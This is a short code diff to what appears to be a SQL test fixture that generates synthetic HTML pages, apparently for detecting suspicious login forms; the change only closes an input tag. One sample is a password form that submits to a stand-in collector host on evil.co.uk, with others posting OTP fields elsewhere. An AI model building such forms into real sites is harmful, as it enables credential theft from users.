@@ -222,7 +222,7 @@ SQL = {
                  WHEN 0 THEN '<form action="https://collect' || CAST(page_id % 9 AS STRING) || '.evil.co.uk/a"><input type="PASSWORD" name="x"></form><iframe src="a"></iframe>'
                  WHEN 1 THEN '<form action="/same"><input name="user_passwd_1"></form>'
                  WHEN 2 THEN '<form action="//login.' || {host_sql("page_id")} || '/x"><input id="OTP"></form><form action="http://b.example.org/"></form><form action="http://a.b.example.org/"></form>'
-                 WHEN 3 THEN '<iframe></iframe><IFRAME></IFRAME><input type=password'
+                 WHEN 3 THEN '<iframe></iframe><IFRAME></IFRAME><input type=password>'
                  ELSE '' END AS html
         FROM {{pages}}
     """,
